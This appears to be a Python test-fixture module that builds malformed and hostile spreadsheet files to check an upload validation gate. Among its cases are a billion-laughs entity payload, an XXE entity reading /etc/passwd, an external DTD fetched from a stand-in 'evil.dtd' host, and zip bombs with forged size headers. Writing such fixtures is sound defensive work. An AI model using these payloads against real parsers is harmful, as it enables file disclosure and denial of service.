"""A corpus of bad (and a few good) workbooks, built by hand with zipfile for the gate tests.

Every builder writes one file into a folder and returns its path, plus the limits and
template area to read it with when the defaults would not show the case. ``BAD`` maps a
kind of bad file to the finding code the gate must answer with.
"""

from __future__ import annotations

import os
import struct
import zipfile
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

from toolkit.gate import Limits

MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PKG_REL = "http://schemas.openxmlformats.org/package/2006/relationships"
CT_NS = "http://schemas.openxmlformats.org/package/2006/content-types"
STRICT_MAIN = "http://purl.oclc.org/ooxml/spreadsheetml/main"
STRICT_REL = "http://purl.oclc.org/ooxml/officeDocument/relationships"
CT_MAIN = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
CT_XLSM = "application/vnd.ms-excel.sheet.macroEnabled.main+xml"
CT_XLSB = "application/vnd.ms-excel.sheet.binary.macroEnabled.main"
DECL = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'


def content_types(main: str = CT_MAIN, extra: str = "") -> str:
    return (
        f'{DECL}<Types xmlns="{CT_NS}">'
        '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        '<Default Extension="xml" ContentType="application/xml"/>'
        f'<Override PartName="/xl/workbook.xml" ContentType="{main}"/>'
        '<Override PartName="/xl/worksheets/sheet1.xml" '
        'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>'
        '<Override PartName="/xl/sharedStrings.xml" '
        'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/>'
        '<Override PartName="/xl/styles.xml" '
        'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.styles+xml"/>'
        f"{extra}</Types>"
    )


def root_rels(target: str = "xl/workbook.xml", ns: str = REL) -> str:
    return (
        f'{DECL}<Relationships xmlns="{PKG_REL}">'
        f'<Relationship Id="rId1" Type="{ns}/officeDocument" Target="{target}"/>'
        f'<Relationship Id="rId2" Type="{ns}/extended-properties" Target="docProps/app.xml"/>'
        "</Relationships>"
    )


def workbook(sheets: str = '<sheet name="Biểu 1" sheetId="1" r:id="rId1"/>', ns: str = MAIN, extra: str = "") -> str:
    return f'{DECL}<workbook xmlns="{ns}" xmlns:r="{REL}"><sheets>{sheets}</sheets>{extra}</workbook>'


def workbook_rels(extra: str = "", ns: str = REL) -> str:
    return (
        f'{DECL}<Relationships xmlns="{PKG_REL}">'
        f'<Relationship Id="rId1" Type="{ns}/worksheet" Target="worksheets/sheet1.xml"/>'
        f'<Relationship Id="rId2" Type="{ns}/sharedStrings" Target="sharedStrings.xml"/>'
        f'<Relationship Id="rId3" Type="{ns}/styles" Target="styles.xml"/>'
        f"{extra}</Relationships>"
    )


def sheet(rows: str | None = None, dimension: str | None = "A1:B2", ns: str = MAIN, head: str = "") -> str:
    if rows is None:
        rows = (
            '<row r="1"><c r="A1" t="s"><v>0</v></c><c r="B1"><v>5</v></c></row>'
            '<row r="2"><c r="A2" t="s" s="1"><v>1</v></c><c r="B2"><f>B1*2</f><v>10</v></c></row>'
        )
    dim = f'<dimension ref="{dimension}"/>' if dimension else ""
    return f'{DECL}{head}<worksheet xmlns="{ns}" xmlns:r="{REL}">{dim}<sheetData>{rows}</sheetData></worksheet>'


def shared_strings(*items: str) -> str:
    items = items or ("Tên", "Ghi chú")
    si = "".join(f"<si><t>{t}</t></si>" for t in items)
    return f'{DECL}<sst xmlns="{MAIN}" count="{len(items)}" uniqueCount="{len(items)}">{si}</sst>'


STYLES = (
    f'{DECL}<styleSheet xmlns="{MAIN}"><cellXfs count="2"><xf numFmtId="0" fontId="0"/>'
    '<xf numFmtId="0" fontId="0" applyProtection="1"><protection locked="0"/></xf></cellXfs></styleSheet>'
)
APP = (
    f'{DECL}<Properties xmlns="http://schemas.openxmlformats.org/officeDocument/2006/extended-properties">'
    "<Application>Microsoft Excel</Application></Properties>"
)


def base_parts() -> dict[str, str | bytes]:
    """A minimal but complete workbook: one sheet, two shared strings, a formula, styles."""
    return {
        "[Content_Types].xml": content_types(),
        "_rels/.rels": root_rels(),
        "docProps/app.xml": APP,
        "xl/workbook.xml": workbook(),
        "xl/_rels/workbook.xml.rels": workbook_rels(),
        "xl/worksheets/sheet1.xml": sheet(),
        "xl/sharedStrings.xml": shared_strings(),
        "xl/styles.xml": STYLES,
    }


def write_zip(
    path: Path,
    parts: dict[str, str | bytes],
    method: int = zipfile.ZIP_DEFLATED,
    methods: dict[str, int] | None = None,
) -> Path:
    with zipfile.ZipFile(path, "w", method) as z:
        for name, data in parts.items():
            raw = data.encode("utf-8") if isinstance(data, str) else data
            z.writestr(name, raw, compress_type=(methods or {}).get(name, method))
    return path


# --- byte patching of zip headers --------------------------------------------------------
def _cd_records(data: bytes) -> list[tuple[int, str, int]]:
    """(offset of the central directory record, name, local header offset)."""
    out = []
    pos = data.find(b"PK\x01\x02")
    while pos >= 0:
        n, m, k = struct.unpack("<HHH", data[pos + 28 : pos + 34])
        (local,) = struct.unpack("<I", data[pos + 42 : pos + 46])
        name = data[pos + 46 : pos + 46 + n].decode("utf-8")
        out.append((pos, name, local))
        pos = data.find(b"PK\x01\x02", pos + 46 + n + m + k)
    return out


def patch_entry(path: Path, name: str, *, usize: int | None = None, flags_or: int = 0, local: bool = True) -> Path:
    """Rewrite the declared uncompressed size and/or flags of one entry, in place."""
    data = bytearray(path.read_bytes())
    for cd, n, loc in _cd_records(bytes(data)):
        if n != name:
            continue
        if usize is not None:
            struct.pack_into("<I", data, cd + 24, usize)
            if local:
                struct.pack_into("<I", data, loc + 22, usize)
        if flags_or:
            (fl,) = struct.unpack_from("<H", data, cd + 8)
            struct.pack_into("<H", data, cd + 8, fl | flags_or)
            if local:
                (fl,) = struct.unpack_from("<H", data, loc + 6)
                struct.pack_into("<H", data, loc + 6, fl | flags_or)
    path.write_bytes(bytes(data))
    return path


def ole2(*streams: str) -> bytes:
    """The first sectors of an OLE2 compound file whose directory names these streams."""
    header = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 16 + struct.pack("<HH", 0x3E, 3) + b"\xfe\xff"
    header = header.ljust(512, b"\x00")
    entries = b""
    for name in ("Root Entry", *streams):
        raw = name.encode("utf-16-le") + b"\x00\x00"
        entries += raw.ljust(64, b"\x00") + struct.pack("<H", len(raw)) + b"\x02".ljust(62, b"\x00")
    return header + entries.ljust(4096, b"\x00")


# --- the corpus ---------------------------------------------------------------------------
@dataclass
class Case:
    path: Path
    limits: Limits | None = None
    kwargs: dict[str, Any] = field(default_factory=dict)


Builder = Callable[[Path], Case]
BAD: dict[str, tuple[str, Builder]] = {}


def bad(kind: str, code: str) -> Callable[[Builder], Builder]:
    def deco(fn: Builder) -> Builder:
        BAD[kind] = (code, fn)
        return fn

    return deco


def _with(d: Path, name: str, **changes: str | bytes | None) -> Path:
    parts = base_parts()
    for k, v in changes.items():
        key = {
            "ct": "[Content_Types].xml",
            "rels": "_rels/.rels",
            "wb": "xl/workbook.xml",
            "wbrels": "xl/_rels/workbook.xml.rels",
            "sheet": "xl/worksheets/sheet1.xml",
            "sst": "xl/sharedStrings.xml",
            "styles": "xl/styles.xml",
            "app": "docProps/app.xml",
        }.get(k, k)
        if v is None:
            parts.pop(key, None)
        else:
            parts[key] = v
    return write_zip(d / name, parts)


# not a workbook at all
@bad("empty file", "empty-file")
def _empty(d: Path) -> Case:
    (d / "empty.xlsx").write_bytes(b"")
    return Case(d / "empty.xlsx")


@bad("CSV renamed .xlsx", "csv-renamed")
def _csv(d: Path) -> Case:
    (d / "csv.xlsx").write_text('Mã,Chỉ tiêu,Giá trị\nNN.1,Diện tích lúa,100\nNN.2,Sản lượng,"1.234,5"\n', "utf-8")
    return Case(d / "csv.xlsx")


@bad("CSV in a Vietnamese legacy code page", "csv-renamed")
def _csv_legacy(d: Path) -> Case:
    import unicodedata

    text = unicodedata.normalize("NFD", "Mã;Chỉ tiêu;Giá trị\r\nNN.1;Lúa;100\r\n")
    (d / "csv1258.xlsx").write_bytes(text.encode("cp1258", errors="replace"))
    return Case(d / "csv1258.xlsx")


@bad("HTML renamed .xlsx", "html-renamed")
def _html(d: Path) -> Case:
    (d / "html.xlsx").write_text(
        '<!DOCTYPE html>\n<html><head><meta charset="utf-8"></head><body><table><tr><td>100</td></tr>'
        "</table></body></html>",
        "utf-8",
    )
    return Case(d / "html.xlsx")


@bad("HTML table exported by a web system as .xlsx", "html-renamed")
def _html_table(d: Path) -> Case:
    (d / "table.xlsx").write_bytes(b"\xef\xbb\xbf  <table border=1><tr><th>M\xc3\xa3</th></tr></table>")
    return Case(d / "table.xlsx")


@bad("PDF renamed .xlsx", "pdf-renamed")
def _pdf(d: Path) -> Case:
    (d / "pdf.xlsx").write_bytes(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<<>>\nendobj\n%%EOF\n")
    return Case(d / "pdf.xlsx")


@bad("PNG picture renamed .xlsx", "not-a-workbook")
def _png(d: Path) -> Case:
    (d / "png.xlsx").write_bytes(b"\x89PNG\r\n\x1a\n" + b"\x00" * 100)
    return Case(d / "png.xlsx")


@bad("random binary", "not-a-workbook")
def _binary(d: Path) -> Case:
    (d / "bin.xlsx").write_bytes(bytes(range(256)) * 8)
    return Case(d / "bin.xlsx")


@bad("Excel 2003 XML spreadsheet renamed .xlsx", "xml2003-renamed")
def _xml2003(d: Path) -> Case:
    (d / "x2003.xlsx").write_text(
        '<?xml version="1.0"?>\n<?mso-application progid="Excel.Sheet"?>\n'
        '<Workbook xmlns="urn:schemas-microsoft-com:office:spreadsheet"><Worksheet ss:Name="S"/></Workbook>',
        "utf-8",
    )
    return Case(d / "x2003.xlsx")


@bad("plain zip archive renamed .xlsx", "not-a-workbook")
def _plain_zip(d: Path) -> Case:
    return Case(write_zip(d / "zip.xlsx", {"readme.txt": "xin chào", "data/a.csv": "1,2"}))


@bad("Word document renamed .xlsx", "not-a-workbook")
def _docx(d: Path) -> Case:
    ct = (
        f'{DECL}<Types xmlns="{CT_NS}"><Default Extension="xml" ContentType="application/xml"/>'
        '<Override PartName="/word/document.xml" '
        'ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>'
    )
    parts = {
        "[Content_Types].xml": ct,
        "_rels/.rels": root_rels("word/document.xml"),
        "word/document.xml": f'{DECL}<w:document xmlns:w="urn:w"/>',
    }
    return Case(write_zip(d / "docx.xlsx", parts))


@bad("OpenDocument spreadsheet renamed .xlsx", "ods-renamed")
def _ods(d: Path) -> Case:
    parts = {"mimetype": "application/vnd.oasis.opendocument.spreadsheet", "content.xml": f"{DECL}<office/>"}
    return Case(write_zip(d / "ods.xlsx", parts, methods={"mimetype": zipfile.ZIP_STORED}))


@bad("truncated zip (upload cut in half)", "corrupt-zip")
def _truncated(d: Path) -> Case:
    good = _with(d, "full.xlsx").read_bytes()
    (d / "truncated.xlsx").write_bytes(good[: len(good) // 2])
    return Case(d / "truncated.xlsx")


@bad("zip missing its last bytes", "corrupt-zip")
def _truncated_end(d: Path) -> Case:
    good = _with(d, "full2.xlsx").read_bytes()
    (d / "cut.xlsx").write_bytes(good[:-12])
    return Case(d / "cut.xlsx")


@bad("damaged data (CRC mismatch)", "corrupt-zip")
def _crc(d: Path) -> Case:
    p = write_zip(d / "crc.xlsx", base_parts(), method=zipfile.ZIP_STORED)
    data = p.read_bytes()
    i = data.index(b"<v>5</v>")
    p.write_bytes(data[:i] + b"<v>6</v>" + data[i + 8 :])
    return Case(p)


@bad("damaged deflate stream", "corrupt-zip")
def _bad_deflate(d: Path) -> Case:
    p = _with(d, "deflate.xlsx", sheet=sheet() + " " * 3000)
    data = bytearray(p.read_bytes())
    for cd, n, loc in _cd_records(bytes(data)):
        if n == "xl/worksheets/sheet1.xml":
            nlen, elen = struct.unpack_from("<HH", data, loc + 26)
            start = loc + 30 + nlen + elen
            for i in range(start + 5, start + 40):
                data[i] ^= 0x5A
    p.write_bytes(bytes(data))
    return Case(p)


# encrypted, old formats, macros, strict
@bad("password-protected (encrypted) workbook", "encrypted-file")
def _encrypted(d: Path) -> Case:
    (d / "enc.xlsx").write_bytes(ole2("EncryptionInfo", "EncryptedPackage", "\x06DataSpaces"))
    return Case(d / "enc.xlsx")


@bad("zip entry with the encryption flag", "encrypted-file")
def _zip_encrypted(d: Path) -> Case:
    return Case(patch_entry(_with(d, "zipenc.xlsx"), "xl/worksheets/sheet1.xml", flags_or=0x1))


@bad("old .xls saved under .xlsx", "xls-renamed")
def _xls(d: Path) -> Case:
    (d / "old.xlsx").write_bytes(ole2("Workbook", "\x05SummaryInformation"))
    return Case(d / "old.xlsx")


@bad("Word 97 document renamed .xlsx", "not-a-workbook")
def _doc(d: Path) -> Case:
    (d / "doc.xlsx").write_bytes(ole2("WordDocument", "1Table"))
    return Case(d / "doc.xlsx")


@bad("macro-enabled content type (.xlsm renamed .xlsx)", "macro-enabled")
def _xlsm_ct(d: Path) -> Case:
    return Case(_with(d, "xlsm.xlsx", ct=content_types(CT_XLSM)))


@bad("vbaProject.bin inside an .xlsx", "macro-enabled")
def _vba(d: Path) -> Case:
    return Case(_with(d, "vba.xlsx", **{"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0" + b"\x00" * 60}))


@bad("file named .xlsm", "macro-enabled")
def _xlsm_name(d: Path) -> Case:
    return Case(_with(d, "form.xlsm"))


@bad("Excel 4.0 macro sheet", "macro-enabled")
def _macrosheet(d: Path) -> Case:
    extra = (
        '<Relationship Id="rId9" Type="http://schemas.microsoft.com/office/2006/relationships/xlMacrosheet" '
        'Target="macrosheets/sheet1.xml"/>'
    )
    return Case(
        _with(
            d,
            "xlm.xlsx",
            wbrels=workbook_rels(extra),
            **{"xl/macrosheets/sheet1.xml": f'{DECL}<xm:macrosheet xmlns:xm="urn:x"/>'},
        )
    )


@bad("binary workbook (.xlsb) renamed", "xlsb-renamed")
def _xlsb(d: Path) -> Case:
    return Case(_with(d, "xlsb.xlsx", ct=content_types(CT_XLSB), **{"xl/workbook.bin": b"\x83\x01\x00"}))


@bad("Strict Open XML workbook", "strict-ooxml")
def _strict(d: Path) -> Case:
    return Case(
        _with(
            d,
            "strict.xlsx",
            rels=root_rels(ns=STRICT_REL),
            wb=workbook(ns=STRICT_MAIN),
            wbrels=workbook_rels(ns=STRICT_REL),
            sheet=sheet(ns=STRICT_MAIN),
        )
    )


@bad("Strict Open XML workbook part with transitional relationships", "strict-ooxml")
def _strict_wb(d: Path) -> Case:
    return Case(_with(d, "strict2.xlsx", wb=workbook(ns=STRICT_MAIN)))


# zip bombs and lying sizes
@bad("compression ratio bomb", "zip-bomb")
def _ratio(d: Path) -> Case:
    rows = '<row r="1"><c r="A1"><v>1</v></c></row>' + " " * (3 * 1024 * 1024)
    return Case(_with(d, "ratio.xlsx", sheet=sheet(rows)))


@bad("huge declared size of one part", "zip-too-large")
def _huge_part(d: Path) -> Case:
    return Case(patch_entry(_with(d, "hugepart.xlsx"), "xl/worksheets/sheet1.xml", usize=0x7FFF0000))


@bad("huge declared total size", "zip-too-large")
def _huge_total(d: Path) -> Case:
    import random

    noise = random.Random(7).randbytes(600_000)  # incompressible: the ratio stays under the limit
    parts = {**base_parts(), **{f"xl/media/image{i}.png": noise for i in range(3)}}
    p = write_zip(d / "hugetotal.xlsx", parts, methods={f"xl/media/image{i}.png": zipfile.ZIP_STORED for i in range(3)})
    for i in range(3):
        patch_entry(p, f"xl/media/image{i}.png", usize=45 * 1024 * 1024, local=False)
    return Case(p)


@bad("too many zip entries", "zip-too-many-entries")
def _entries(d: Path) -> Case:
    return Case(_with(d, "entries.xlsx", **{f"xl/media/i{i}.bin": b"x" for i in range(600)}))


@bad("entry larger than declared", "zip-entry-overflow")
def _overflow(d: Path) -> Case:
    return Case(patch_entry(_with(d, "overflow.xlsx"), "xl/worksheets/sheet1.xml", usize=100))


@bad("stored entry larger than declared", "zip-entry-overflow")
def _overflow_stored(d: Path) -> Case:
    p = write_zip(d / "overflow_stored.xlsx", base_parts(), method=zipfile.ZIP_STORED)
    return Case(patch_entry(p, "xl/worksheets/sheet1.xml", usize=100))


@bad("bzip2-compressed part", "unsupported-compression")
def _bzip2(d: Path) -> Case:
    p = write_zip(d / "bz2.xlsx", base_parts(), methods={"xl/worksheets/sheet1.xml": zipfile.ZIP_BZIP2})
    return Case(p)


@bad("two parts with the same name", "duplicate-part")
def _duplicate(d: Path) -> Case:
    import warnings

    p = _with(d, "dup.xlsx")
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        with zipfile.ZipFile(p, "a") as z:
            z.writestr("xl/worksheets/sheet1.xml", sheet('<row r="1"><c r="A1"><v>666</v></c></row>', "A1"))
    return Case(p)


@bad("two parts differing only in case", "duplicate-part")
def _duplicate_case(d: Path) -> Case:
    return Case(_with(d, "dupcase.xlsx", **{"XL/Worksheets/Sheet1.xml": sheet()}))


# XML attacks
BILLION_LAUGHS = (
    '<?xml version="1.0"?>\n<!DOCTYPE lolz [<!ENTITY lol "lol">'
    + "".join(f'<!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">' for i in range(1, 10))
    + f']>\n<worksheet xmlns="{MAIN}"><sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>&lol9;</t></is></c>'
    "</row></sheetData></worksheet>"
)


@bad("billion laughs in a worksheet", "xml-doctype")
def _laughs(d: Path) -> Case:
    return Case(_with(d, "laughs.xlsx", sheet=BILLION_LAUGHS))


@bad("external entity (XXE) in shared strings", "xml-doctype")
def _xxe(d: Path) -> Case:
    sst = (
        f'<?xml version="1.0"?><!DOCTYPE sst [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
        f'<sst xmlns="{MAIN}"><si><t>&x;</t></si><si><t>b</t></si></sst>'
    )
    return Case(_with(d, "xxe.xlsx", sst=sst))


@bad("plain DOCTYPE in workbook.xml", "xml-doctype")
def _doctype(d: Path) -> Case:
    return Case(_with(d, "doctype.xlsx", wb=workbook().replace("<workbook", "<!DOCTYPE workbook><workbook", 1)))


@bad("parameter entity in [Content_Types].xml", "xml-doctype")
def _param_entity(d: Path) -> Case:
    ct = content_types().replace(
        "<Types", '<!DOCTYPE Types [<!ENTITY % p SYSTEM "http://127.0.0.1:9/evil.dtd"> %p;]><Types', 1
    )
    return Case(_with(d, "param.xlsx", ct=ct))


@bad("DOCTYPE in a UTF-16 relationships part", "xml-doctype")
def _doctype_utf16(d: Path) -> Case:
    rels = (
        root_rels()
        .replace('encoding="UTF-8"', 'encoding="UTF-16"')
        .replace("<Relationships", '<!DOCTYPE r [<!ENTITY a "aaaa">]><Relationships', 1)
    )
    return Case(_with(d, "utf16.xlsx", rels=b"\xff\xfe" + rels.encode("utf-16-le")))


@bad("malformed XML", "xml-malformed")
def _malformed(d: Path) -> Case:
    return Case(_with(d, "malformed.xlsx", sheet=sheet().replace("</sheetData>", "", 1)))


@bad("XML declared in windows-1252", "xml-encoding")
def _encoding(d: Path) -> Case:
    sst = shared_strings("Tên", "Ghi chú").replace("UTF-8", "windows-1252").encode("cp1252", errors="replace")
    return Case(_with(d, "cp1252.xlsx", sst=sst))


@bad("XML with bytes that are not UTF-8", "xml-malformed")
def _not_utf8(d: Path) -> Case:
    return Case(_with(d, "latin1.xlsx", sst=shared_strings("Gi\xe1", "b").encode("latin-1")))


@bad("cell reference that is not A1", "xml-malformed")
def _bad_ref(d: Path) -> Case:
    return Case(_with(d, "badref.xlsx", sheet=sheet('<row r="1"><c r="1A"><v>1</v></c></row>', "A1")))


@bad("worksheet part that is not a worksheet", "xml-malformed")
def _wrong_root(d: Path) -> Case:
    return Case(_with(d, "root.xlsx", sheet=f'{DECL}<chartsheet xmlns="{MAIN}"/>'))


@bad("formula longer than Excel allows", "xml-malformed")
def _long_formula(d: Path) -> Case:
    rows = f'<row r="1"><c r="A1"><f t="shared" ref="A1:A2" si="0">{"&quot;" * 60_000}</f><v>1</v></c></row>'
    return Case(_with(d, "longformula.xlsx", sheet=sheet(rows, "A1")))


# geometry
@bad("one cell at XFD1048576", "sheet-too-large")
def _far_cell(d: Path) -> Case:
    rows = '<row r="1"><c r="A1"><v>1</v></c></row><row r="1048576"><c r="XFD1048576"><v>1</v></c></row>'
    return Case(_with(d, "far.xlsx", sheet=sheet(rows, "A1:XFD1048576")))


@bad("data far below the template's area", "sheet-too-large")
def _below_area(d: Path) -> Case:
    rows = '<row r="1"><c r="A1"><v>1</v></c></row><row r="900"><c r="B900"><v>2</v></c></row>'
    return Case(_with(d, "below.xlsx", sheet=sheet(rows, "A1:B900")), kwargs={"max_row": 40, "max_col": 8})


@bad("declared dimension smaller than the data", "dimension-mismatch")
def _dim_small(d: Path) -> Case:
    return Case(_with(d, "dimsmall.xlsx", sheet=sheet(dimension="A1")))


# parts missing, no sheets
@bad("missing xl/workbook.xml", "missing-part")
def _no_workbook(d: Path) -> Case:
    return Case(_with(d, "nowb.xlsx", wb=None))


@bad("missing worksheet part", "missing-part")
def _no_sheet(d: Path) -> Case:
    return Case(_with(d, "nosheet.xlsx", sheet=None))


@bad("missing [Content_Types].xml", "missing-part")
def _no_ct(d: Path) -> Case:
    return Case(_with(d, "noct.xlsx", ct=None))


@bad("missing _rels/.rels", "missing-part")
def _no_rels(d: Path) -> Case:
    return Case(_with(d, "norels.xlsx", rels=None))


@bad("missing workbook relationships", "missing-part")
def _no_wbrels(d: Path) -> Case:
    return Case(_with(d, "nowbrels.xlsx", wbrels=None))


@bad("missing shared strings part", "missing-part")
def _no_sst(d: Path) -> Case:
    return Case(_with(d, "nosst.xlsx", sst=None))


@bad("sheet pointing at a missing relationship", "missing-part")
def _no_rid(d: Path) -> Case:
    return Case(_with(d, "norid.xlsx", wb=workbook('<sheet name="S" sheetId="1" r:id="rId77"/>')))


@bad("workbook with no sheets", "no-sheets")
def _zero_sheets(d: Path) -> Case:
    return Case(_with(d, "zero.xlsx", wb=workbook("")))


@bad("two sheets with the same name", "xml-malformed")
def _same_name(d: Path) -> Case:
    sheets = '<sheet name="Biểu 1" sheetId="1" r:id="rId1"/><sheet name="BIỂU 1" sheetId="2" r:id="rId1"/>'
    return Case(_with(d, "samename.xlsx", wb=workbook(sheets)))


@bad("workbook with too many sheets", "too-many-sheets")
def _many_sheets(d: Path) -> Case:
    sheets = "".join(f'<sheet name="S{i}" sheetId="{i}" r:id="rId1"/>' for i in range(1, 150))
    return Case(_with(d, "manysheets.xlsx", wb=workbook(sheets)))


@bad("shared string index out of range", "shared-string-missing")
def _sst_index(d: Path) -> Case:
    return Case(_with(d, "sstidx.xlsx", sheet=sheet('<row r="1"><c r="A1" t="s"><v>99</v></c></row>', "A1")))


# content
@bad("control characters in a shared string", "control-characters")
def _control_sst(d: Path) -> Case:
    return Case(_with(d, "ctrl.xlsx", sst=shared_strings("Tên_x0001_", "Ghi_x000B_chú")))


@bad("control characters in an inline string", "control-characters")
def _control_inline(d: Path) -> Case:
    rows = '<row r="1"><c r="A1" t="inlineStr"><is><t>a_x0007_b</t></is></c></row>'
    return Case(_with(d, "ctrlinline.xlsx", sheet=sheet(rows, "A1")))


# bounds
def _cells(n_rows: int, n_cols: int = 10) -> str:
    from toolkit.a1 import col_letter

    letters = [col_letter(c) for c in range(1, n_cols + 1)]
    return "".join(
        f'<row r="{r}">' + "".join(f'<c r="{L}{r}"><v>{r * 10 + i}</v></c>' for i, L in enumerate(letters)) + "</row>"
        for r in range(1, n_rows + 1)
    )


@bad("more cells than allowed", "too-many-cells")
def _too_many_cells(d: Path) -> Case:
    return Case(_with(d, "cells.xlsx", sheet=sheet(_cells(300), "A1:J300")), Limits(max_cells=1000))


@bad("more text than allowed", "too-much-text")
def _too_much_text(d: Path) -> Case:
    return Case(_with(d, "text.xlsx", sst=shared_strings("x" * 30_000, "y" * 30_000)), Limits(max_text_mb=0.05))


@bad("reading takes longer than the deadline", "read-timeout")
def _slow(d: Path) -> Case:
    return Case(_with(d, "slow.xlsx", sheet=sheet(_cells(4000, 20), "A1:T4000")), Limits(timeout_s=0.02))


@bad("file larger than allowed", "file-too-large")
def _big_file(d: Path) -> Case:
    return Case(_with(d, "big.xlsx"), Limits(max_file_mb=0.001))


# the file system
@bad("a folder named .xlsx", "not-a-regular-file")
def _folder(d: Path) -> Case:
    (d / "folder.xlsx").mkdir()
    return Case(d / "folder.xlsx")


@bad("a symbolic link to a workbook", "not-a-regular-file")
def _symlink(d: Path) -> Case:
    target = _with(d, "target.xlsx")
    (d / "link.xlsx").symlink_to(target)
    return Case(d / "link.xlsx")


@bad("a link to /dev/zero", "not-a-regular-file")
def _devzero(d: Path) -> Case:
    (d / "zero.xlsx").symlink_to("/dev/zero")
    return Case(d / "zero.xlsx")


@bad("a named pipe (would block a naive reader)", "not-a-regular-file")
def _fifo(d: Path) -> Case:
    os.mkfifo(d / "fifo.xlsx")
    return Case(d / "fifo.xlsx")


@bad("a file that does not exist", "file-not-found")
def _missing(d: Path) -> Case:
    return Case(d / "missing.xlsx")


def snapshot(res: Any) -> tuple:
    """Everything a read gives, to compare two ways of reading one file: the book's flags,
    every sheet's flags, every cell (its value's type too) and every finding."""
    b = res.book
    book = None
    if b is not None:
        book = (
            b.defined_names,
            b.structure_locked,
            b.locked_styles,
            b.style_formats,
            b.application,
            [
                (
                    s.name,
                    s.state,
                    s.protected,
                    s.protection,
                    s.dimension,
                    s.max_row,
                    s.max_col,
                    s.merged,
                    sorted(
                        (k, c.ref, c.row, c.col, repr(c.value), type(c.value).__name__, c.formula, c.kind, c.style)
                        for k, c in s.cells.items()
                    ),
                )
                for s in b.sheets
            ],
        )
    return book, [(f.code, f.sheet, f.cell, f.message_en, repr(sorted(f.extra.items()))) for f in res.findings]
